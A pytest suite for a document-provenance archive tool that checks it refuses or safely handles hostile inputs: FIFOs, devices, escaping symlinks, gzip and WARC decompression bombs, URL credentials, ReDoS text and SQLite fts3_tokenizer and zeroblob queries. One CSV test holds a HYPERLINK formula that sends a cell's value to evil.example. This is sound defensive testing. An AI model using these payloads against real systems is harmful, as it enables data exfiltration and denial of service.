"""Hostile inputs against what the archive holds (issue 14): each case adds something hostile to
an archive that already holds a source, and asserts the one-line error or the stored result,
that nothing already stored changed, and that ``verify`` passes afterwards.

Classes: how inputs are opened (symbolic links, FIFOs, devices, unreadable folders); one budget
of decompressed bytes across every layer; credentials in URLs; spreadsheet formulas in CSV
exports; text a parser limit would silently drop.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import random
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

from provenance.export import spreadsheet_safe
from provenance.inputs import Item, Limits, gunzip, read_item

from .conftest import FIXTURES

GOOD = FIXTURES / "telegram.txt"
NOTE = "Field notes\n\nThe council said on Monday that the bridge will cost {n} million dollars.\n"


# --- the harness ----------------------------------------------------------------------------


def snapshot(db_path: Path) -> dict[str, list[tuple]]:
    """What is stored: every source, claim, attribution and failure, and the log."""
    conn = sqlite3.connect(db_path)
    try:
        return {
            "sources": conn.execute(
                "SELECT id, raw_sha256, text_sha256, title, url, input FROM sources ORDER BY id"
            ).fetchall(),
            "claims": conn.execute(
                "SELECT id, source_id, start, end, text, score FROM claims ORDER BY id"
            ).fetchall(),
            "failures": conn.execute(
                "SELECT id, input, error FROM failures ORDER BY id"
            ).fetchall(),
            "events": conn.execute("SELECT id, hash FROM events ORDER BY id").fetchall(),
        }
    finally:
        conn.close()


@pytest.fixture
def archive(run, db_path):
    """An archive holding one source already."""
    run("add", GOOD, ok=True)
    return db_path


@pytest.fixture
def hostile(run, archive):
    """``hostile(*args)``: add them, check the invariants, return the results by input."""

    def add(*args: object, exit_codes: tuple[int, ...] = (0, 1)) -> dict[str, dict]:
        before = snapshot(archive)
        result = run("add", *args, "--json")
        assert "Traceback" not in result.output + result.stderr
        assert result.exit_code in exit_codes, result.stderr
        results = json.loads(result.stdout)
        for r in results:
            if r["status"] == "failed":
                assert r["error"] and "\n" not in r["error"] and "\r" not in r["error"]
        after = snapshot(archive)
        for table in ("sources", "claims", "failures"):
            assert set(before[table]) <= set(after[table]), f"{table} changed"
        assert after["events"][: len(before["events"])] == before["events"]
        check = run("verify", "--json")
        assert check.exit_code == 0, check.stdout
        return {r["input"]: r for r in results}

    return add


def failed(results: dict[str, dict], name: object, fragment: str) -> dict:
    found = results[str(name)]
    assert found["status"] == "failed" and fragment in found["error"], found
    return found


def stored_inputs(db_path: Path) -> set[str]:
    conn = sqlite3.connect(db_path)
    try:
        return {r[0] for r in conn.execute("SELECT input FROM sources")}
    finally:
        conn.close()


def recorded_failures(db_path: Path) -> dict[str, str]:
    conn = sqlite3.connect(db_path)
    try:
        return dict(conn.execute("SELECT input, error FROM failures"))
    finally:
        conn.close()


def note(path: Path, n: int = 1) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(NOTE.format(n=n), encoding="utf-8")
    return path


# --- opening inputs ---------------------------------------------------------------------------


@pytest.mark.parametrize("device", ["/dev/zero", "/dev/null", "/dev/urandom"])
def test_a_device_is_refused_not_read(hostile, archive, device):
    results = hostile(device)
    failed(results, device, "not a regular file")
    assert recorded_failures(archive)[device] == "not a regular file (a pipe, socket or device)"


@pytest.mark.parametrize("where", ["argument", "in a folder"])
def test_a_fifo_is_refused_never_waited_on(hostile, tmp_path, where):
    folder = tmp_path / "in"
    folder.mkdir()
    fifo = folder / "feed.txt"
    os.mkfifo(fifo)
    note(folder / "a.txt")
    results = hostile(fifo if where == "argument" else folder)
    failed(results, fifo, "not a regular file")


def test_a_file_swapped_for_a_fifo_after_the_listing_is_refused(tmp_path):
    """The race: listed as a file, a FIFO when read. Opened without blocking and checked with
    fstat, it is refused at once (in a child process, so that a hang would fail the test)."""
    folder = tmp_path / "race"
    note(folder / "a.txt")
    script = (
        "import os, sys\n"
        "from provenance.inputs import iter_inputs, read_item, Limits\n"
        "from provenance.errors import InputError\n"
        f"[item] = list(iter_inputs([{str(folder)!r}]))\n"
        "os.remove(item.path); os.mkfifo(item.path)\n"
        "try:\n    read_item(item, Limits())\nexcept InputError as e:\n    print(e)\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, timeout=120
    )
    assert done.stdout.strip() == "not a regular file (a pipe, socket or device)", done.stderr


@pytest.mark.parametrize("target", ["file", "folder", "missing", "loop"])
def test_a_symlink_given_directly_is_not_followed(hostile, tmp_path, target):
    link = tmp_path / "link.txt"
    if target == "file":
        link.symlink_to(note(tmp_path / "elsewhere" / "real.txt"))
    elif target == "folder":
        (tmp_path / "dir").mkdir()
        link.symlink_to(tmp_path / "dir", target_is_directory=True)
    elif target == "missing":
        link.symlink_to(tmp_path / "nothing.txt")
    else:
        link.symlink_to(link)
    results = hostile(link)
    if target == "folder":  # a link to a folder is walked as the folder it names (empty here)
        assert str(link) not in results
        return
    reason = {"file": "symbolic link", "missing": "symbolic link", "loop": "symbolic link"}
    failed(results, link, reason[target])


@pytest.mark.parametrize(
    "target", ["a file outside", "a secret outside", "a folder outside", "the parent folder"]
)
def test_a_symlink_leaving_the_folder_is_a_recorded_skip(hostile, archive, tmp_path, target):
    folder = tmp_path / "inbox"
    note(folder / "inside.txt")
    outside = note(tmp_path / "private" / "diary.txt", 99)
    link = folder / "link.txt"
    if target == "a file outside":
        link.symlink_to(outside)
    elif target == "a secret outside":
        link.symlink_to(GOOD.parent / "article.html")
    elif target == "a folder outside":
        link = folder / "linked"
        link.symlink_to(outside.parent, target_is_directory=True)
    else:
        link = folder / "up"
        link.symlink_to("..", target_is_directory=True)
    results = hostile(folder)
    assert results[str(folder / "inside.txt")]["status"] == "added"
    if link.name == "link.txt":
        failed(results, link, "a symbolic link to outside the folder, not followed")
        assert str(link) in recorded_failures(archive)
    else:  # links to folders are never walked
        assert not any(str(link) in name for name in results)
    assert not any("diary" in name for name in stored_inputs(archive))


def test_follow_links_reads_a_link_leaving_the_folder(hostile, tmp_path):
    folder = tmp_path / "inbox"
    note(folder / "inside.txt")
    (folder / "link.txt").symlink_to(note(tmp_path / "private" / "diary.txt", 7))
    results = hostile(folder, "--follow-links")
    assert results[str(folder / "link.txt")]["status"] == "added"


@pytest.mark.parametrize("hops", [1, 2])
def test_a_symlink_inside_the_folder_is_read_as_its_target(hostile, tmp_path, hops):
    folder = tmp_path / "inbox"
    real = note(folder / "sub" / "real.txt", 3)
    link = folder / "link.txt"
    if hops == 1:
        link.symlink_to(real)
    else:
        (folder / "middle.txt").symlink_to(real)
        link.symlink_to(folder / "middle.txt")
    results = hostile(folder)
    assert results[str(link)]["status"] in ("added", "unchanged")
    assert results[str(real)]["status"] in ("added", "unchanged")


@pytest.mark.parametrize("kind", ["dangling", "loop", "pair"])
def test_broken_symlinks_in_a_folder_are_failures(hostile, tmp_path, kind):
    folder = tmp_path / "inbox"
    note(folder / "inside.txt")
    link = folder / "broken.txt"
    if kind == "dangling":
        link.symlink_to(folder / "gone.txt")
    elif kind == "loop":
        link.symlink_to(link)
    else:
        (folder / "other.txt").symlink_to(link)
        link.symlink_to(folder / "other.txt")
    results = hostile(folder)
    failed(results, link, "cannot read")


def _without_read_override() -> None:
    """In the child, before exec: give up root's power to read any file (Linux)."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    for capability in (1, 2):  # CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH
        if libc.prctl(24, capability, 0, 0, 0) != 0:  # PR_CAPBSET_DROP
            raise OSError(ctypes.get_errno(), "cannot drop capabilities")


def test_an_unreadable_subfolder_is_a_failure_row(tmp_path):
    folder = tmp_path / "inbox"
    note(folder / "a.txt")
    locked = folder / "locked"
    note(locked / "hidden.txt", 2)
    locked.chmod(0o000)
    db = tmp_path / "x.db"
    command = [sys.executable, "-c", "from provenance.cli import main; main()"]
    command += ["add", str(folder), "--db", str(db), "--json"]
    try:
        done = subprocess.run(
            command,
            capture_output=True,
            text=True,
            timeout=300,
            preexec_fn=_without_read_override if os.geteuid() == 0 else None,
        )
    except subprocess.SubprocessError as exc:
        pytest.skip(f"cannot give up root's read override here: {exc}")
    finally:
        locked.chmod(0o755)
    results = {r["input"]: r for r in json.loads(done.stdout)}
    assert done.returncode == 1
    assert results[str(folder / "a.txt")]["status"] == "added"
    assert results[str(locked)]["error"] == "cannot list the folder: permission denied"
    assert recorded_failures(db) == {str(locked): "cannot list the folder: permission denied"}


def test_read_item_reads_a_regular_file_whole(tmp_path):
    path = note(tmp_path / "a.txt")
    fetched = read_item(Item(str(path), path=path), Limits())
    assert fetched.data == path.read_bytes()


@pytest.mark.parametrize("size", [0, 1, 64 * 1024, 3 * 1024 * 1024 + 5])
def test_read_item_stops_at_the_byte_limit(tmp_path, size):
    path = tmp_path / "blob.txt"
    path.write_bytes(b"a" * size)
    limit = 64 * 1024
    if size > limit:
        with pytest.raises(Exception, match="over the limit"):
            read_item(Item(str(path), path=path), Limits(max_bytes=limit))
    else:
        assert len(read_item(Item(str(path), path=path), Limits(max_bytes=limit)).data) == size


# --- one budget of decompressed bytes ---------------------------------------------------------


def warc_file(records: list[tuple[bytes, str | None, str]], compress: bool = False) -> bytes:
    """A WARC of response records ``(body, Content-Encoding, Content-Type)`` (with warcio)."""
    from warcio.statusandheaders import StatusAndHeaders
    from warcio.warcwriter import WARCWriter

    out = io.BytesIO()
    writer = WARCWriter(out, gzip=compress)
    for number, (body, encoding, content_type) in enumerate(records):
        headers = [("Content-Type", content_type)]
        if encoding:
            headers.append(("Content-Encoding", encoding))
        http = StatusAndHeaders("200 OK", headers, protocol="HTTP/1.1")
        record = writer.create_warc_record(
            f"http://127.0.0.1/page-{number}",
            "response",
            payload=io.BytesIO(body),
            http_headers=http,
        )
        writer.write_record(record)
    return out.getvalue()


def page(n: int) -> bytes:
    return (
        f"<html><head><title>Page {n}</title></head><body><article><h1>Page {n}</h1>"
        f"<p>The council said on Monday that bridge {n} will cost {n + 2} million dollars.</p>"
        "</article></body></html>"
    ).encode()


HTML = "text/html; charset=utf-8"
DATA = "application/octet-stream"  # never extracted: what it costs is only its bytes
MB = 1_000_000


def inflating(size: int) -> tuple[bytes, str, str]:
    """A record whose gzip Content-Encoding inflates to ``size`` bytes."""
    return gzip.compress(b"\0" * size), "gzip", DATA


@pytest.mark.parametrize("records", [3, 12])
def test_content_encoded_warc_records_share_the_input_budget(hostile, tmp_path, records):
    """Each record inflates under the limit; together they pass it: refused."""
    path = tmp_path / "bombs.warc"
    path.write_bytes(warc_file([(page(1), None, HTML)] + [inflating(2 * MB)] * records))
    assert path.stat().st_size < 100_000
    results = hostile(path, "--max-bytes", str(5 * MB))
    failed(results, path, "expands past the limit of 5,000,000 decompressed bytes")


def test_content_encoded_warc_records_under_the_budget_are_stored(hostile, tmp_path):
    path = tmp_path / "fine.warc"
    path.write_bytes(warc_file([(gzip.compress(page(n)), "gzip", HTML) for n in range(3)]))
    results = hostile(path)
    assert results[str(path)]["status"] == "added"


@pytest.mark.parametrize(
    "plain, encoded, ok",
    [(3, 0, True), (0, 2, True), (3, 1, False), (0, 5, False)],
    ids=["stream only", "content-encoding only", "both layers", "content-encoding over"],
)
def test_a_warc_gz_and_its_records_share_one_budget(hostile, tmp_path, plain, encoded, ok):
    """Bytes the .warc.gz stream inflates and bytes records' Content-Encoding inflates count
    against one budget: each layer alone fits, both together do not."""
    path = tmp_path / "capture.warc.gz"
    records = [(page(1), None, HTML)]
    noise = random.Random(plain).randbytes(MB)  # inflates 1:1, under the ratio cap
    records += [(noise, None, DATA)] * plain + [inflating(int(1.5 * MB))] * encoded
    path.write_bytes(warc_file(records, compress=True))
    results = hostile(path, "--max-bytes", str(4 * MB))
    if ok:
        assert results[str(path)]["status"] == "added"
    else:
        failed(results, path, "expands past the limit of 4,000,000 decompressed bytes")


@pytest.mark.parametrize("ratio", [1_000, 10_000, 100_000])
def test_a_gzipped_page_bomb_stops_at_the_budget(hostile, tmp_path, ratio):
    path = tmp_path / "bomb.html.gz"
    path.write_bytes(gzip.compress(b"<p>" + b" " * (100 * ratio)))
    results = hostile(path, "--max-bytes", str(50 * ratio))
    failed(results, path, "expands past the limit")


@pytest.mark.parametrize("members", [2, 1_000, 20_000])
def test_many_gzip_members_are_all_read(hostile, archive, tmp_path, members):
    """Linear in the number of members (each fed in bounded pieces): the text is whole."""
    lines = [f"Line {i} of the field notes.\n".encode() for i in range(members)]
    head = b"Field notes\n\nThe council said on Monday that the bridge will cost 3 million.\n"
    path = tmp_path / "notes.txt.gz"
    path.write_bytes(gzip.compress(head) + b"".join(gzip.compress(line) for line in lines))
    results = hostile(path)
    assert results[str(path)]["status"] == "added"
    conn = sqlite3.connect(archive)
    text = conn.execute("SELECT text FROM sources WHERE input = ?", (str(path),)).fetchone()[0]
    assert f"Line {members - 1} of the field notes." in text


@pytest.mark.parametrize(
    "tail, ok",
    [(b"", True), (b"\x00" * 100, True), (b"trailing junk", True), (b"\x1f\x8b\x08", False)],
    ids=["clean", "nul padding", "trailing junk", "a cut member"],
)
def test_gzip_member_boundaries(tail, ok):
    data = gzip.compress(b"one ") + tail
    if ok:
        assert gunzip(data, 1000) == b"one "
    else:
        with pytest.raises(Exception, match="gzip"):
            gunzip(data, 1000)


def test_gunzip_never_inflates_past_the_cap():
    with pytest.raises(Exception, match="expands past"):
        gunzip(gzip.compress(b"\x00" * 10_000_000), 1_000_000)


# --- credentials in URLs ----------------------------------------------------------------------


def _seen_authorization(web, path: str, body: bytes) -> list[str | None]:
    seen: list[str | None] = []

    def send(req) -> None:
        seen.append(req.headers.get("Authorization"))
        req.send_response(200)
        req.send_header("Content-Type", "text/html; charset=utf-8")
        req.send_header("Content-Length", str(len(body)))
        req.end_headers()
        req.wfile.write(body)

    web.route(path, send)
    return seen


def _nowhere(db_path: Path, secret: str) -> None:
    """The secret is in no row of any table (the log included)."""
    conn = sqlite3.connect(db_path)
    try:
        tables = [
            r[0]
            for r in conn.execute(
                "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE '%fts%'"
            )
        ]
        for table in tables:
            for row in conn.execute(f"SELECT * FROM {table}"):
                assert secret not in repr(row), (table, row)
    finally:
        conn.close()


@pytest.mark.parametrize("userinfo", ["alice:s3cret@", "alice:s3cret%40x@", "s3cret@", ":s3cret@"])
def test_credentials_in_a_url_are_neither_sent_nor_kept(hostile, archive, web, userinfo):
    seen = _seen_authorization(web, "/story.html", page(5))
    url = web.url("/story.html").replace("http://", "http://" + userinfo)
    results = hostile(url)
    [result] = results.values()
    assert result["status"] == "added" and "s3cret" not in result["input"]
    assert seen == [None]
    _nowhere(archive, "s3cret")


def test_credentials_in_a_failing_url_are_not_recorded(hostile, archive, web):
    url = web.url("/missing.html").replace("http://", "http://bob:s3cret@")
    results = hostile(url)
    [result] = results.values()
    assert result["status"] == "failed" and "404" in result["error"]
    _nowhere(archive, "s3cret")


def test_credentials_in_a_redirect_are_neither_sent_nor_kept(hostile, archive, web):
    seen = _seen_authorization(web, "/target.html", page(6))
    web.redirect("/start", web.url("/target.html").replace("http://", "http://eve:s3cret@"))
    results = hostile(web.url("/start"))
    [result] = results.values()
    assert result["status"] == "added"
    assert seen == [None]
    _nowhere(archive, "s3cret")


# --- spreadsheet formulas in CSV exports ------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_a_spreadsheet_would_evaluate_is_escaped(start):
    assert (
        spreadsheet_safe(start + 'HYPERLINK("http://x")') == "'" + start + 'HYPERLINK("http://x")'
    )


@pytest.mark.parametrize("value", ["plain", "a=b", "", 3, -2.5, None])
def test_other_cells_are_left_as_they_are(value):
    assert spreadsheet_safe(value) == value


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_an_exported_title_starting_like_a_formula_is_escaped(hostile, run, tmp_path, start):
    path = tmp_path / "formula.html"
    title = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    html = page(9).replace(b"<title>Page 9</title>", f"<title>{title}</title>".encode())
    path.write_bytes(html)
    results = hostile(path)
    assert results[str(path)]["status"] == "added"
    exported = run("export", "--format", "csv")
    assert exported.exit_code == 0, exported.stderr
    titles = [r["source_title"] for r in csv.DictReader(io.StringIO(exported.stdout))]
    assert titles and not any(t.startswith(("=", "+", "-", "@")) for t in titles)
    assert "'" + title in titles


# --- text a parser limit would drop -----------------------------------------------------------


def test_a_text_node_over_libxml2s_limit_reaches_the_text_layer():
    """A 12 MB page whose middle paragraph is one text node (libxml2 cuts nodes past 10 MB
    unless told the tree is huge): every paragraph a reader sees is in the text layer."""
    import lxml.html

    from provenance.ingest.base import Hint
    from provenance.pipeline import extract_record

    middle = "wave " * 2_400_000
    markup = (
        "<html><head><title>Big page</title></head><body><article><h1>Big page</h1>"
        "<p>The first paragraph says the council met on Monday.</p>"
        f"<p>{middle}</p>"
        "<p>The last paragraph says the bridge will cost 4 million dollars.</p>"
        "</article></body></html>"
    ).encode()
    assert len(markup) > 12_000_000
    record = extract_record(markup, Hint(name="big.html"), max_bytes=50_000_000)
    visible = [
        " ".join(p.text_content().split())
        for p in lxml.html.document_fromstring(
            markup, parser=lxml.html.HTMLParser(huge_tree=True)
        ).iter("p")
    ]
    text = " ".join(record.text.split())
    assert [v for v in visible if v not in text] == []


# --- requests to the published site -----------------------------------------------------------


@pytest.fixture
def site(archive):
    from datasette.app import Datasette

    from provenance.datasette import datasette_kwargs

    kwargs = datasette_kwargs(archive.stem)
    kwargs["settings"] = {**kwargs.get("settings", {}), "sql_time_limit_ms": 200}
    return Datasette([str(archive)], **kwargs)


@pytest.mark.parametrize(
    "sql, fragment",
    [
        ("select hex(fts3_tokenizer('simple'))", "function raised exception"),
        ("select fts3_tokenizer('mine', x'0000000000000000')", "function raised exception"),
        ("select length(zeroblob(200000000))", "too big"),
        ("select length(randomblob(200000000))", "too big"),
        ("select length(hex(zeroblob(40000000)))", "too big"),
        (
            "select length(group_concat(zeroblob(1000000))) from"
            " (with recursive n(i) as (select 1 union all select i + 1 from n where i < 200)"
            " select i from n)",
            None,  # too big, or past the time limit first: refused either way
        ),
    ],
    ids=[
        "fts3_tokenizer read",
        "fts3_tokenizer write",
        "zeroblob",
        "randomblob",
        "hex doubling",
        "group_concat",
    ],
)
@pytest.mark.asyncio
async def test_the_public_sql_endpoint_refuses_pointers_and_huge_values(
    site, archive, sql, fragment
):
    before = snapshot(archive)
    response = await site.client.get(f"/{archive.stem}.json", params={"sql": sql})
    assert response.status_code == 400
    assert fragment is None or fragment in response.text
    assert snapshot(archive) == before


@pytest.mark.asyncio
async def test_a_plugin_page_past_the_time_limit_is_a_400_not_a_hang(site, archive, monkeypatch):
    from provenance import evidence

    def endless(conn, *args):
        return conn.execute(
            "with recursive n(i) as (select 1 union all select i + 1 from n) select count(*) from n"
        ).fetchone()

    monkeypatch.setattr(evidence, "search", endless)
    response = await site.client.get(f"/{archive.stem}/-/search", params={"q": "grain"})
    assert response.status_code == 400
    assert "time limit" in response.text


# --- WARC honesty -----------------------------------------------------------------------------


def _declared_longer(data: bytes, extra: int) -> bytes:
    """The WARC with its (last) record declaring ``extra`` more bytes than it holds."""
    head, sep, rest = data.rpartition(b"WARC/1.")
    marker = b"Content-Length: "
    start = rest.index(marker) + len(marker)
    end = rest.index(b"\r\n", start)
    length = int(rest[start:end]) + extra
    return head + sep + rest[:start] + str(length).encode() + rest[end:]


@pytest.mark.parametrize("extra", [100, 10_000_000])
def test_a_warc_record_declaring_more_than_it_holds_is_stored_as_truncated(
    hostile, archive, tmp_path, extra
):
    path = tmp_path / "lying.warc"
    path.write_bytes(_declared_longer(warc_file([(page(1), None, HTML)]), extra))
    results = hostile(path)
    assert results[str(path)]["status"] == "added"
    conn = sqlite3.connect(archive)
    [meta] = conn.execute(
        "SELECT metadata FROM sources WHERE parent_id IS NOT NULL AND input = ?", (str(path),)
    ).fetchone()
    assert "declares" in json.loads(meta)["truncated"]


@pytest.mark.parametrize("cut", [10, 60])
def test_a_warc_record_cut_mid_block_is_stored_as_truncated(hostile, archive, tmp_path, cut):
    path = tmp_path / "cut.warc"
    data = warc_file([(page(1) + b"<!-- " + b"x" * 200 + b" -->", None, HTML)])
    path.write_bytes(data[: len(data) - 4 - cut])  # the block's end and the record's CRLF CRLF
    results = hostile(path)
    assert results[str(path)]["status"] == "added"
    conn = sqlite3.connect(archive)
    [meta] = conn.execute(
        "SELECT metadata FROM sources WHERE parent_id IS NOT NULL AND input = ?", (str(path),)
    ).fetchone()
    assert "truncated" in json.loads(meta)


@pytest.mark.parametrize(
    "tail",
    [b"XXXX/1.0\r\nContent-Length: 5\r\n\r\nhello\r\n\r\n", b"\x00\x01garbage\r\n\r\n"],
    ids=["unknown record", "garbage"],
)
def test_a_damaged_warc_fails_with_one_line(hostile, tmp_path, tail):
    path = tmp_path / "damaged.warc"
    path.write_bytes(warc_file([(page(1), None, HTML)]) + tail)
    results = hostile(path)
    result = results[str(path)]
    if result["status"] == "failed":
        assert "\r" not in result["error"] and "\n" not in result["error"]


def test_a_302_without_location_is_not_the_document(hostile, archive, web):
    body = page(4)

    def send(req) -> None:
        req.send_response(302)
        req.send_header("Content-Type", "text/html; charset=utf-8")
        req.send_header("Content-Length", str(len(body)))
        req.end_headers()
        req.wfile.write(body)

    web.route("/moved", send)
    results = hostile(web.url("/moved"))
    [result] = results.values()
    assert result["status"] == "failed" and "302 without a Location" in result["error"]


@pytest.mark.parametrize("where", ["start", "middle", "end"])
def test_a_stray_nul_in_utf8_text_is_not_binary(hostile, archive, tmp_path, where):
    text = NOTE.format(n=4) + "The mayor said the café reopens on Friday.\n"
    at = {"start": 0, "middle": len(text) // 2, "end": len(text)}[where]
    path = tmp_path / "nul.txt"
    path.write_bytes((text[:at] + "\x00" + text[at:]).encode("utf-8"))
    results = hostile(path)
    assert results[str(path)]["status"] == "added"
    conn = sqlite3.connect(archive)
    [stored] = conn.execute("SELECT text FROM sources WHERE input = ?", (str(path),)).fetchone()
    assert "café reopens" in stored


def test_binary_data_with_many_nuls_is_still_binary(hostile, tmp_path):
    path = tmp_path / "blob.txt"
    path.write_bytes(bytes(range(256)) * 16)
    results = hostile(path)
    assert results[str(path)]["status"] == "failed"


# --- parser regexes on hostile text -----------------------------------------------------------

LINEAR_CABLE_PATTERNS = ["_SUBJECT_END", "_SIPDIS", "_INLINE_PARAGRAPH", "_SENDER_SUFFIX"]
HOSTILE_TEXTS = {
    "spaces": "' ' * 100_000",
    "spaces and newlines": "' \\n' * 50_000",
    "tabs": "'\\t \\n' * 33_000",
    "a repeated token": "'SUBJECT: ' + 'word ' * 20_000",
    "a header then spaces": "'UNCLAS ' + ' ' * 100_000 + 'SUBJECT: x'",
}


@pytest.mark.parametrize("text", list(HOSTILE_TEXTS), ids=list(HOSTILE_TEXTS))
def test_cable_patterns_that_open_with_spaces_are_linear(text):
    """100 KB of whitespace or repeated tokens: each pattern's search and finditer finish (in
    a child process with a generous bound, so that a quadratic search fails, never hangs)."""
    script = (
        "import provenance.ingest.cable as cable\n"
        f"text = {HOSTILE_TEXTS[text]}\n"
        f"for name in {LINEAR_CABLE_PATTERNS!r}:\n"
        "    pattern = getattr(cable, name)\n"
        "    pattern.search(text)\n"
        "    sum(1 for _ in pattern.finditer(text))\n"
        "print('done')\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, timeout=300
    )
    assert done.stdout.strip() == "done", done.stderr


# --- files the tool writes --------------------------------------------------------------------


@pytest.mark.parametrize("target", ["the database", "its write-ahead log", "an input"])
def test_the_profile_is_never_written_over_what_is_read(
    run, archive, tmp_path, monkeypatch, target
):
    source = note(tmp_path / "in.txt", 8)
    path = {
        "the database": archive,
        "its write-ahead log": Path(f"{archive}-wal"),
        "an input": source,
    }[target]
    before = path.read_bytes() if path.exists() else None
    monkeypatch.setenv("PROVENANCE_PROFILE", str(path))
    result = run("add", source)
    assert result.exit_code == 1
    assert result.stderr.startswith("Error: refusing to write ") and result.stderr.count("\n") == 1
    if target != "its write-ahead log":
        assert path.read_bytes() == before
    monkeypatch.delenv("PROVENANCE_PROFILE")
    assert run("verify").exit_code == 0


def test_the_profile_is_written_whole(run, archive, tmp_path, monkeypatch):
    out = tmp_path / "profile.json"
    out.write_text("old")
    monkeypatch.setenv("PROVENANCE_PROFILE", str(out))
    assert run("add", note(tmp_path / "in.txt", 8)).exit_code == 0
    assert isinstance(json.loads(out.read_text()), dict)  # the totals, whole
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".profile")] == []


def test_skipped_warc_records_are_listed_with_their_reason(hostile, archive, tmp_path):
    path = tmp_path / "mixed.warc"
    path.write_bytes(warc_file([(page(1), None, HTML), (b"\x89PNG....", None, "image/png")]))
    results = hostile(path)
    assert results[str(path)]["status"] == "added"
    conn = sqlite3.connect(archive)
    [meta] = conn.execute(
        "SELECT metadata FROM sources WHERE parent_id IS NULL AND input = ?", (str(path),)
    ).fetchone()
    assert json.loads(meta)["skipped"] == [
        {"uri": "http://127.0.0.1/page-1", "error": "not an HTML, PDF or text response (image/png)"}
    ]
